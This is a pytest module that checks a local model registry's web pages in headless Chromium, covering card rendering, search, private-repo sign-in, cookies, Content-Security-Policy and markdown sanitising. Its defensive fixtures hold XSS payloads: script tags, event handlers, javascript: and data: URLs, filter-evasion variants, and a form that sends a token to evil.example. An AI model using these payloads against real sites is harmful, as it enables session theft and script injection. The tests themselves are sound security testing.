"""The registry's pages, checked in a real browser: Debian's `chromium`, headless, driven over the DevTools
protocol (`--remote-debugging-pipe`: JSON messages on two pipes, no extra package), loads pages from a registry
this module starts and pushes to with huggingface_hub. The checks read the rendered DOM: card headings and tables,
the plot image decoded (non-zero natural size), audio metadata loaded, file rows, search results, private repos
hidden until signing in through the form, and a hostile card that runs nothing. Screenshots are saved.

Without chromium the browser tests skip, unless HF_TTS_REQUIRE_SERVICES=1 (CI), where they fail. The HTTP-level
checks (headers, JSON for API clients, cookies, cross-site refusal) and the sanitiser's property test need no
browser.
"""

from __future__ import annotations

import base64
import io
import json
import math
import os
import select
import shutil
import struct
import subprocess
import tempfile
import time
import urllib.error
import urllib.request
import wave
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from huggingface_hub import CommitOperationAdd, HfApi
from hypothesis import given
from hypothesis import strategies as st

from hf_tts.registry import LocalHubServer
from hf_tts.registry.auth import create_account, create_token, list_tokens, revoke_token
from hf_tts.registry.web import SESSION_COOKIE, render_markdown
from tests.fuzz import FUZZ

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")

CARD = """---
license: apache-2.0
language:
- en
- zh
library_name: hf-tts
pipeline_tag: text-to-speech
tags:
- merge
- f5-tts
base_model:
- alice/voice-base
- nowhere/absent-model
base_model_relation: merge
---

# alice/voice-merged

A merge of two voices, made with `hf-tts merge`.

## Merge details

| setting | value |
|---|---|
| method | `linear` |
| output dtype | `float32` |
| tensors | 17 |

## Distance of each source from the merge

![cosine distance per block](merge_distance.png)

See the [recipe](merge_recipe.yaml) and the [weights folder](weights).

Sources: [alice/voice-base](https://huggingface.co/alice/voice-base), [absent](https://huggingface.co/nowhere/absent-model).

```python
from transformers import AutoModel
model = AutoModel.from_pretrained("alice/voice-merged")
```
"""

# Everything a card could try to run something with: script elements, event handlers, javascript: and data: URLs,
# frames, forms, SVG handlers, styles and meta refreshes. Each would set a marker the test looks for.
HOSTILE_CARD = """---
library_name: hf-tts
---

# Totally normal model

<script>document.body.setAttribute('data-pwned', 'script')</script>
<img src="x.png" onerror="document.body.setAttribute('data-pwned', 'onerror')">
<img src="javascript:document.body.setAttribute('data-pwned', 'img-js')">
<a id="js-link" href="javascript:document.body.setAttribute('data-pwned', 'href')">click me</a>
<a href="JaVaScRiPt:alert(1)">shouting</a>
<a href="data:text/html,<script>alert(1)</script>">data</a>
[markdown link](javascript:alert(document.cookie))
![markdown image](javascript:alert(1))
<svg onload="document.body.setAttribute('data-pwned', 'svg')"><circle r="1"/></svg>
<iframe src="javascript:parent.document.body.setAttribute('data-pwned', 'iframe')"></iframe>
<details open ontoggle="document.body.setAttribute('data-pwned', 'toggle')"><summary>more</summary>x</details>
<style>body { display: none }</style>
<meta http-equiv="refresh" content="0; url=javascript:alert(1)">
<form action="https://evil.example/steal"><input name="token"><button>go</button></form>
<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">
<p style="background: url(javascript:alert(1))">styled</p>
"""


# --- test data --------------------------------------------------------------------------------------------------------


def png_bytes(width: int = 320, height: int = 180) -> bytes:
    from PIL import Image, ImageDraw

    image = Image.new("RGB", (width, height), "white")
    draw = ImageDraw.Draw(image)
    draw.line([(10, height - 10), (width - 10, 10)], fill="navy", width=3)
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


def wav_bytes(seconds: float = 0.5, rate: int = 16000) -> bytes:
    samples = [int(8000 * math.sin(2 * math.pi * 220 * index / rate)) for index in range(int(seconds * rate))]
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as writer:
        writer.setnchannels(1)
        writer.setsampwidth(2)
        writer.setframerate(rate)
        writer.writeframes(struct.pack(f"<{len(samples)}h", *samples))
    return buffer.getvalue()


def safetensors_bytes() -> bytes:
    """Tensors of 12 + 5 + 2 * 3 = 23 parameters (F32 and BF16), with metadata."""
    header = {
        "__metadata__": {"format": "pt"},
        "backbone.proj.weight": {"dtype": "F32", "shape": [4, 3], "data_offsets": [0, 48]},
        "backbone.proj.bias": {"dtype": "BF16", "shape": [5], "data_offsets": [48, 58]},
        "vocoder.head": {"dtype": "BF16", "shape": [2, 3], "data_offsets": [58, 70]},
    }
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + bytes(70)


@pytest.fixture(scope="module")
def registry(tmp_path_factory: pytest.TempPathFactory):
    """A registry with accounts (so private repos exist) and repos pushed by huggingface_hub."""
    root = tmp_path_factory.mktemp("web-registry")
    server = LocalHubServer(root).serve_in_thread()
    create_account(server.store, "alice", "user")
    create_account(server.store, "bob", "user")
    create_account(server.store, "mallory", "user")
    alice = create_token(server.store, "alice", "laptop", "write")
    bob = create_token(server.store, "bob", "laptop", "write")
    mallory = create_token(server.store, "mallory", "laptop", "write")
    api = HfApi(endpoint=server.url, token=alice)
    api.create_repo("alice/voice-base")
    api.upload_file(path_or_fileobj=b"---\nlibrary_name: hf-tts\n---\n# base\n", path_in_repo="README.md",
                    repo_id="alice/voice-base")  # fmt: skip
    api.create_repo("alice/voice-merged")
    files = {
        "README.md": CARD.encode(),
        "merge_distance.png": png_bytes(),
        "samples/speech.wav": wav_bytes(),
        "model.safetensors": safetensors_bytes(),
        "config.json": json.dumps({"architectures": ["F5TTSModel"], "dim": 128, "depth": 4}, indent=2).encode(),
        "merge_recipe.yaml": b"merge_method: linear\nmodels:\n  - model: alice/voice-a\n    weight: 0.6\n",
        "weights/extra.bin": b"\x00\x01\x02" * 100,
        "broken.safetensors": safetensors_bytes()[:-10],
    }
    api.create_commit(
        "alice/voice-merged",
        [CommitOperationAdd(path_in_repo=path, path_or_fileobj=data) for path, data in files.items()],
        commit_message="Add the merge",
    )
    api.create_branch("alice/voice-merged", branch="dev")
    api.create_tag("alice/voice-merged", tag="v1.0")
    api.upload_file(path_or_fileobj=b"notes\n", path_in_repo="NOTES.txt", repo_id="alice/voice-merged",
                    revision="dev", commit_message="Dev notes")  # fmt: skip
    api.create_repo("alice/secret-voice", private=True)
    api.upload_file(path_or_fileobj=b"---\npipeline_tag: text-to-speech\n---\n# secret\n", path_in_repo="README.md",
                    repo_id="alice/secret-voice")  # fmt: skip
    HfApi(endpoint=server.url, token=bob).create_repo("bob/other-model")
    evil = HfApi(endpoint=server.url, token=mallory)
    evil.create_repo("mallory/xss")
    evil.upload_file(path_or_fileobj=HOSTILE_CARD.encode(), path_in_repo="README.md", repo_id="mallory/xss")
    server.tokens = {"alice": alice, "bob": bob, "mallory": mallory}  # type: ignore[attr-defined]
    yield server
    server.stop()


def fetch(url: str, *, method: str = "GET", body: bytes | None = None, headers: dict | None = None):
    """(status, headers, body) of one request, without following redirects."""

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args, **kwargs):  # noqa: ANN002, ANN003
            return None

    opener = urllib.request.build_opener(NoRedirect)
    request = urllib.request.Request(url, data=body, method=method, headers=headers or {})
    try:
        with opener.open(request, timeout=30) as response:
            return response.status, response.headers, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()


# --- HTTP-level checks (no browser) -----------------------------------------------------------------------------------


def test_pages_forbid_scripts_and_files_are_sandboxed(registry):
    status, headers, body = fetch(f"{registry.url}/alice/voice-merged")
    assert status == 200 and headers["Content-Type"].startswith("text/html")
    policy = headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "script-src" not in policy  # no script source at all
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert "private" in headers["Cache-Control"]
    assert b"<script" not in body.lower()
    status, headers, _ = fetch(f"{registry.url}/alice/voice-merged/resolve/main/config.json")
    assert status == 200 and headers["Content-Security-Policy"].endswith("sandbox")
    status, headers, body = fetch(f"{registry.url}/-/static/registry.css")
    assert status == 200 and headers["Content-Type"].startswith("text/css") and b".badge" in body


def test_commit_url_answers_json_to_clients_and_html_to_browsers(registry):
    api = HfApi(endpoint=registry.url, token=registry.tokens["alice"])
    head = api.list_repo_commits("alice/voice-merged")[0]
    url = f"{registry.url}/alice/voice-merged/commit/{head.commit_id}"
    status, headers, body = fetch(url)
    assert status == 200 and headers["Content-Type"] == "application/json"
    assert "model.safetensors" in json.loads(body)["changedPaths"]
    status, headers, body = fetch(url, headers={"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"})
    assert status == 200 and headers["Content-Type"].startswith("text/html")
    assert b'data-path="model.safetensors"' in body and b"Add the merge" in body


def test_api_answers_are_unchanged_by_the_pages(registry):
    for path in ("/api", "/datasets"):  # paths the pages would match, were the namespaces not reserved
        status, headers, body = fetch(registry.url + path)
        assert (status, headers["Content-Type"]) == (404, "application/json")
        assert json.loads(body)["error"] == f"no route for GET {path}"
    status, _, body = fetch(f"{registry.url}/api/models?search=voice")
    assert status == 200 and {item["id"] for item in json.loads(body)} == {"alice/voice-base", "alice/voice-merged"}
    status, _, body = fetch(f"{registry.url}/alice/voice-merged/resolve/main/config.json")
    assert status == 200 and json.loads(body)["dim"] == 128


def test_missing_things_are_html_error_pages(registry):
    for path, status in [
        ("/alice/no-such-model", 404),
        ("/alice/voice-merged/tree/no-such-branch", 404),
        ("/alice/voice-merged/blob/main/no/such/file.txt", 404),
        ("/alice/voice-merged/tree/main?p=-1", 400),
        ("/models?sort=popularity", 400),
        ("/alice/secret-voice", 404),  # private: looks missing to the anonymous
    ]:
        answer, headers, body = fetch(registry.url + path)
        assert (answer, headers["Content-Type"].split(";")[0]) == (status, "text/html"), path
        assert f'data-status="{status}"'.encode() in body


def test_sign_in_sets_an_httponly_cookie_and_refuses_cross_site_forms(registry):
    login = f"{registry.url}/-/login"
    form = f"token={registry.tokens['alice']}&next=%2Falice%2Fsecret-voice".encode()
    status, _, _ = fetch(login, method="POST", body=form, headers={"Origin": "https://evil.example"})
    assert status == 403
    status, headers, _ = fetch(login, method="POST", body=form, headers={"Origin": registry.url})
    assert status == 303 and headers["Location"] == "/alice/secret-voice"
    cookie = headers["Set-Cookie"]
    assert cookie.startswith(f"{SESSION_COOKIE}=") and "HttpOnly" in cookie and "SameSite=lax" in cookie
    session = cookie.split(";")[0]
    status, _, body = fetch(f"{registry.url}/alice/secret-voice", headers={"Cookie": session})
    assert status == 200 and b"secret" in body
    # An open redirect is refused: `next` must be a path on this site.
    status, headers, _ = fetch(login, method="POST", body=form.replace(b"%2Falice", b"%2F%2Fevil.example"))
    assert status == 303 and headers["Location"] == "/"
    status, _, body = fetch(login, method="POST", body=b"token=hf_wrong")
    assert status == 401 and b"not valid here" in body


def test_revoking_the_token_signs_the_browser_out(registry):
    token = create_token(registry.store, "alice", "short-lived", "read")
    session = {"Cookie": f"{SESSION_COOKIE}={token}"}
    assert fetch(f"{registry.url}/alice/secret-voice", headers=session)[0] == 200
    (row,) = [item for item in list_tokens(registry.store, "alice") if item["name"] == "short-lived"]
    revoke_token(registry.store, row["id"])
    status, headers, _ = fetch(f"{registry.url}/alice/secret-voice", headers=session)
    assert status == 404 and f'{SESSION_COOKIE}=""' in headers["Set-Cookie"]  # the stale cookie is removed


def test_open_registry_has_nothing_to_sign_in_to(tmp_path):
    with LocalHubServer(tmp_path / "open") as server:
        status, _, body = fetch(f"{server.url}/-/login", method="POST", body=b"token=hf_x")
        assert status == 400 and b"this registry is open" in body
        assert b"Sign in" not in fetch(f"{server.url}/models")[2]


MARKUP = st.sampled_from(
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "[x](javascript:alert(1))",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<svg/onload="alert(1)">',
        "<iframe src=//evil.example>",
        '<div onmouseover="alert(1)">x</div>',
        "<scr<script>ipt>alert(1)</script>",
        "![x](data:text/html;base64,PHNjcmlwdD4=)",
        "<style>*{}</style>",
        "`code`",
        "# title",
        "| a |\n|---|\n| b |",
    ]
)


@FUZZ
@given(st.lists(st.one_of(MARKUP, st.text(max_size=40)), max_size=12))
def test_sanitised_markdown_never_carries_script(pieces):
    import re

    rendered = render_markdown("\n".join(pieces)).lower()
    assert "<script" not in rendered and "<iframe" not in rendered and "<style" not in rendered
    assert not re.search(r"<[^>]*\son\w+\s*=", rendered)  # no event handler attribute on any tag
    assert not re.search(r"(href|src)\s*=\s*\"\s*(javascript|data|vbscript):", rendered)


# --- the browser ------------------------------------------------------------------------------------------------------


class Browser:
    """Headless chromium over the DevTools protocol on a pipe (fd 3: commands in, fd 4: messages out)."""

    def __init__(self, profile: Path):
        commands_read, self._commands = os.pipe()
        self._messages, messages_write = os.pipe()

        def wire() -> None:
            os.dup2(commands_read, 3)
            os.dup2(messages_write, 4)

        self.process = subprocess.Popen(
            [
                CHROMIUM,
                "--headless",
                "--no-sandbox",  # tests run as root in CI containers
                "--disable-gpu",
                "--remote-debugging-pipe",
                f"--user-data-dir={profile}",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--mute-audio",
                "--hide-scrollbars",
                "--window-size=1280,1400",
                "about:blank",
            ],
            pass_fds=(3, 4),
            preexec_fn=wire,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        os.close(commands_read)
        os.close(messages_write)
        self._buffer = b""
        self._next_id = 0
        self.events: list[dict] = []
        page = next(item for item in self.call("Target.getTargets")["targetInfos"] if item["type"] == "page")
        self.session = self.call("Target.attachToTarget", targetId=page["targetId"], flatten=True)["sessionId"]
        for domain in ("Page.enable", "Runtime.enable", "Log.enable"):
            self.call(domain, session=True)

    def _read_message(self, deadline: float) -> dict:
        while b"\0" not in self._buffer:
            remaining = deadline - time.monotonic()
            if remaining <= 0 or not select.select([self._messages], [], [], remaining)[0]:
                raise TimeoutError("chromium did not answer in time")
            piece = os.read(self._messages, 1 << 20)
            if not piece:
                raise RuntimeError("chromium closed the DevTools pipe")
            self._buffer += piece
        line, self._buffer = self._buffer.split(b"\0", 1)
        return json.loads(line)

    def call(self, method: str, session: bool = False, timeout: float = 30, **params) -> dict:  # noqa: ANN003
        self._next_id += 1
        message = {"id": self._next_id, "method": method, "params": params}
        if session:
            message["sessionId"] = self.session
        os.write(self._commands, json.dumps(message).encode() + b"\0")
        deadline = time.monotonic() + timeout
        while True:
            answer = self._read_message(deadline)
            if answer.get("id") == self._next_id:
                if "error" in answer:
                    raise RuntimeError(f"{method}: {answer['error']}")
                return answer["result"]
            self.events.append(answer)

    def wait_for(self, event: str, timeout: float = 30) -> dict:
        deadline = time.monotonic() + timeout
        while True:
            for index, item in enumerate(self.events):
                if item.get("method") == event:
                    return self.events.pop(index)
            self.events.append(self._read_message(deadline))

    def open(self, url: str) -> None:
        self.events.clear()
        self.call("Page.navigate", session=True, url=url)
        self.wait_for("Page.loadEventFired")

    def evaluate(self, expression: str, timeout: float = 30):  # noqa: ANN201
        result = self.call(
            "Runtime.evaluate", session=True, timeout=timeout, expression=expression, returnByValue=True,
            awaitPromise=True,
        )  # fmt: skip
        if "exceptionDetails" in result:
            raise RuntimeError(f"{expression}: {result['exceptionDetails']}")
        return result["result"].get("value")

    def submit(self, expression: str) -> None:
        """Run `expression` (which submits a form) and wait for the page it leads to."""
        self.events.clear()
        self.evaluate(expression)
        self.wait_for("Page.loadEventFired")

    def screenshot(self, path: Path) -> Path:
        data = self.call("Page.captureScreenshot", session=True, format="png")["data"]
        path.write_bytes(base64.b64decode(data))
        return path

    def close(self) -> None:
        self.process.kill()
        self.process.wait(timeout=30)
        os.close(self._commands)
        os.close(self._messages)


@pytest.fixture(scope="module")
def browser():
    if CHROMIUM is None:
        message = "chromium is not installed (make chromium installs Debian's chromium)"
        if os.environ.get("HF_TTS_REQUIRE_SERVICES") == "1":
            pytest.fail(message)
        pytest.skip(message)
    profile = tempfile.mkdtemp(prefix="hf-tts-chromium-")
    session = Browser(Path(profile))
    yield session
    session.close()
    shutil.rmtree(profile, ignore_errors=True)


@pytest.fixture(scope="module")
def screenshots(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("screenshots")


def saved_png(path: Path) -> None:
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 10_000, path


def test_card_page_renders_the_card_plot_and_audio(registry, browser, screenshots):
    browser.open(f"{registry.url}/alice/voice-merged")
    assert browser.evaluate("document.querySelector('#model-card h1').textContent") == "alice/voice-merged"
    headings = browser.evaluate("[...document.querySelectorAll('#model-card h2')].map(h => h.textContent)")
    assert headings[:2] == ["Merge details", "Distance of each source from the merge"]
    rows = browser.evaluate("[...document.querySelectorAll('#model-card table tbody tr')].map(r => r.innerText)")
    assert rows == ["method\tlinear", "output dtype\tfloat32", "tensors\t17"]
    plot = browser.evaluate(
        "(() => { const img = document.querySelector('#model-card img');"
        " return [img.getAttribute('src'), img.naturalWidth, img.naturalHeight]; })()"
    )
    assert plot == ["/alice/voice-merged/resolve/main/merge_distance.png", 320, 180]
    duration = browser.evaluate(
        "new Promise(done => { const audio = document.querySelector('#repo-media audio');"
        " if (audio.readyState >= 1) done(audio.duration);"
        " audio.addEventListener('loadedmetadata', () => done(audio.duration));"
        " audio.addEventListener('error', () => done(-1)); })"
    )
    assert duration == pytest.approx(0.5, abs=0.01)
    badges = browser.evaluate("[...document.querySelectorAll('#card-metadata .badge')].map(b => b.textContent)")
    assert badges[:5] == ["text-to-speech", "hf-tts", "license: apache-2.0", "en", "zh"]
    links = browser.evaluate(
        "[...document.querySelectorAll('#base-models .base-model')].map(e => [e.textContent, e.getAttribute('href')])"
    )
    assert links == [["alice/voice-base", "/alice/voice-base"], ["nowhere/absent-model", None]]
    card_links = browser.evaluate("[...document.querySelectorAll('#model-card p a')].map(a => a.getAttribute('href'))")
    # Relative links point at the repo's files; huggingface.co links at repos this registry has point here.
    assert card_links == [
        "/alice/voice-merged/blob/main/merge_recipe.yaml",
        "/alice/voice-merged/tree/main/weights",
        "/alice/voice-base",
        "https://huggingface.co/nowhere/absent-model",
    ]
    assert browser.evaluate("document.querySelectorAll('#model-card pre code .kn').length") > 0  # highlighted
    revisions = browser.evaluate("[...document.querySelectorAll('.revisions a')].map(a => a.textContent)")
    assert revisions == ["dev", "main", "v1.0"]
    saved_png(browser.screenshot(screenshots / "card.png"))
    browser.open(f"{registry.url}/alice/voice-merged?revision=dev")
    assert "dev" in browser.evaluate("document.querySelector('.revisions summary').textContent")
    assert browser.evaluate("document.querySelector('.sidebar').innerText").count("9 files") == 1


def test_file_tree_blob_and_commit_pages(registry, browser, screenshots):
    browser.open(f"{registry.url}/alice/voice-merged/tree/main")
    rows = browser.evaluate("[...document.querySelectorAll('#file-table tbody tr')].map(r => r.dataset.path)")
    assert rows == [
        "samples",
        "weights",
        "README.md",
        "broken.safetensors",
        "config.json",
        "merge_distance.png",
        "merge_recipe.yaml",
        "model.safetensors",
    ]
    size = browser.evaluate("document.querySelector('tr[data-path=\"model.safetensors\"]').dataset.size")
    assert int(size) == len(safetensors_bytes())
    download = browser.evaluate("document.querySelector('tr[data-path=\"config.json\"] a.download').href")
    assert download.endswith("/alice/voice-merged/resolve/main/config.json?download=true")
    status, _, body = fetch(download)
    assert status == 200 and json.loads(body)["depth"] == 4
    saved_png(browser.screenshot(screenshots / "tree.png"))

    browser.open(f"{registry.url}/alice/voice-merged/tree/main/samples")
    assert browser.evaluate("[...document.querySelectorAll('#file-table tr.file')].map(r => r.dataset.path)") == [
        "samples/speech.wav"
    ]

    browser.open(f"{registry.url}/alice/voice-merged/blob/main/config.json")
    assert browser.evaluate("document.querySelector('#file-view').dataset.kind") == "highlighted"
    assert browser.evaluate("document.querySelectorAll('#file-view .highlight .nt').length") == 3  # three JSON keys

    browser.open(f"{registry.url}/alice/voice-merged/blob/main/model.safetensors")
    assert browser.evaluate("document.querySelector('#total-parameters').dataset.parameters") == "23"
    tensors = browser.evaluate(
        "[...document.querySelectorAll('#safetensors-header table.tensors tbody tr')].map(r => r.innerText)"
    )
    assert tensors == [
        "backbone.proj.bias\t[5]\tBF16\t5",
        "backbone.proj.weight\t[4, 3]\tF32\t12",
        "vocoder.head\t[2, 3]\tBF16\t6",
    ]
    saved_png(browser.screenshot(screenshots / "safetensors.png"))
    browser.open(f"{registry.url}/alice/voice-merged/blob/main/broken.safetensors")
    assert "not a readable safetensors file" in browser.evaluate("document.querySelector('#file-view').innerText")

    browser.open(f"{registry.url}/alice/voice-merged/commits/dev")
    titles = browser.evaluate("[...document.querySelectorAll('#commit-list .title')].map(a => a.textContent)")
    assert titles[:2] == ["Dev notes", "Add the merge"]
    browser.open(browser.evaluate("document.querySelector('#commit-list .title').href"))
    changed = browser.evaluate("[...document.querySelectorAll('#changed-files tbody tr')].map(r => r.innerText)")
    assert changed == ["added\tNOTES.txt\t6 B"]


def test_search_and_filters_list_the_matching_models(registry, browser, screenshots):
    def listed() -> list[str]:
        return browser.evaluate("[...document.querySelectorAll('#repo-list li')].map(li => li.dataset.repo)")

    browser.open(f"{registry.url}/models?search=voice")
    assert sorted(listed()) == ["alice/voice-base", "alice/voice-merged"]
    saved_png(browser.screenshot(screenshots / "search.png"))
    browser.open(f"{registry.url}/models?pipeline_tag=text-to-speech")
    assert listed() == ["alice/voice-merged"]
    browser.open(f"{registry.url}/models?tag=license:apache-2.0")
    assert listed() == ["alice/voice-merged"]
    browser.open(f"{registry.url}/models?library=hf-tts&sort=name")
    assert listed() == ["alice/voice-base", "alice/voice-merged", "mallory/xss"]
    browser.open(f"{registry.url}/bob")
    assert listed() == ["bob/other-model"]
    browser.open(f"{registry.url}/models")
    # Sorted by last update, newest first; the facet links filter.
    assert listed() == ["mallory/xss", "bob/other-model", "alice/voice-merged", "alice/voice-base"]
    browser.open(browser.evaluate("document.querySelector('[data-facet=author] a').href"))
    assert browser.evaluate("document.querySelector('#result-count').textContent") == "2"


def test_private_repo_is_shown_only_after_signing_in(registry, browser, screenshots):
    def listed() -> list[str]:
        return browser.evaluate("[...document.querySelectorAll('#repo-list li')].map(li => li.dataset.repo)")

    browser.open(f"{registry.url}/models")
    assert "alice/secret-voice" not in listed()
    assert "alice/secret-voice" not in browser.evaluate("document.body.innerText")
    browser.open(f"{registry.url}/alice/secret-voice")
    assert browser.evaluate("document.querySelector('#error').dataset.status") == "404"

    browser.open(browser.evaluate("document.querySelector('a.signin').href"))
    token = registry.tokens["alice"]
    browser.submit(
        f"document.querySelector('input[name=token]').value = {json.dumps(token)};"
        "document.querySelector('#login-form').submit()"
    )
    assert browser.evaluate("location.pathname") == "/alice/secret-voice"
    assert browser.evaluate("document.querySelector('.repo-header .private').textContent") == "private"
    assert browser.evaluate("document.querySelector('header .user').dataset.user") == "alice"
    assert browser.evaluate("document.cookie") == ""  # HttpOnly: not even the page itself can read the token
    (cookie,) = [item for item in browser.call("Storage.getCookies")["cookies"] if item["name"] == SESSION_COOKIE]
    assert cookie["httpOnly"] and cookie["sameSite"] == "Lax" and cookie["value"] == token
    browser.open(f"{registry.url}/models")
    assert "alice/secret-voice" in listed()
    saved_png(browser.screenshot(screenshots / "signed-in.png"))

    browser.submit("document.querySelector('header form.inline').submit()")
    browser.open(f"{registry.url}/models")
    assert "alice/secret-voice" not in listed()
    assert browser.call("Storage.getCookies")["cookies"] == []


def test_hostile_card_runs_nothing(registry, browser, screenshots):
    browser.open(f"{registry.url}/mallory/xss")
    time.sleep(0.3)  # time for anything deferred (a toggle event, a refresh) to fire
    assert browser.evaluate("location.pathname") == "/mallory/xss"
    assert browser.evaluate("document.body.getAttribute('data-pwned')") is None
    assert browser.evaluate("document.querySelector('#model-card h1').textContent") == "Totally normal model"
    assert (
        browser.evaluate("document.querySelectorAll('script, iframe, object, embed, style, meta[http-equiv]').length")
        == 0
    )
    assert browser.evaluate("document.querySelectorAll('#model-card form, #model-card input').length") == 0
    handlers = browser.evaluate(
        "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes].map(a => a.name))"
        ".filter(name => name.startsWith('on'))"
    )
    assert handlers == []
    hrefs = browser.evaluate("[...document.querySelectorAll('#model-card [href], #model-card [src]')]"
                             ".map(e => e.getAttribute('href') || e.getAttribute('src'))")  # fmt: skip
    assert not [value for value in hrefs if value.split(":")[0].strip().lower() in ("javascript", "data")]
    # The card's text is still there, and the link that tried javascript: is an inert anchor.
    assert browser.evaluate("document.querySelector('#js-link, #model-card a:not([href])').textContent") in (
        "click me",
        "shouting",
        "data",
    )
    # Clicking what is left runs nothing either.
    browser.evaluate("[...document.querySelectorAll('#model-card a')].forEach(a => a.click()); true")
    time.sleep(0.2)
    assert browser.evaluate("document.body.getAttribute('data-pwned')") is None
    saved_png(browser.screenshot(screenshots / "hostile.png"))


def test_csp_blocks_scripts_even_if_the_sanitiser_let_one_through(registry, browser):
    """Defence in depth: a script element injected into a page (as a sanitiser bug would) does not run."""
    browser.open(f"{registry.url}/mallory/xss")
    browser.events.clear()
    browser.evaluate(
        "const s = document.createElement('script');"
        "s.textContent = \"document.body.setAttribute('data-pwned', 'injected')\";"
        "document.body.appendChild(s); true"
    )
    time.sleep(0.2)
    assert browser.evaluate("document.body.getAttribute('data-pwned')") is None
    violations = [
        item for item in browser.events
        if item.get("method") == "Log.entryAdded" and "Content Security Policy" in item["params"]["entry"]["text"]
    ]  # fmt: skip
    assert violations, "chromium should report the blocked inline script"


def test_page_urls_survive_revisions_with_slashes(registry, browser):
    HfApi(endpoint=registry.url, token=registry.tokens["alice"]).create_branch("alice/voice-merged", branch="feat/x")
    browser.open(f"{registry.url}/alice/voice-merged/tree/{quote('feat/x', safe='')}")
    assert "feat/x" in browser.evaluate("document.querySelector('.revisions summary').textContent")
    link = browser.evaluate("document.querySelector('tr[data-path=\"config.json\"] a').getAttribute('href')")
    assert link == "/alice/voice-merged/blob/feat%2Fx/config.json"
    browser.open(registry.url + link)
    assert browser.evaluate("document.querySelector('#file-view').dataset.kind") == "highlighted"
    assert urlsplit(browser.evaluate("location.href")).path == link
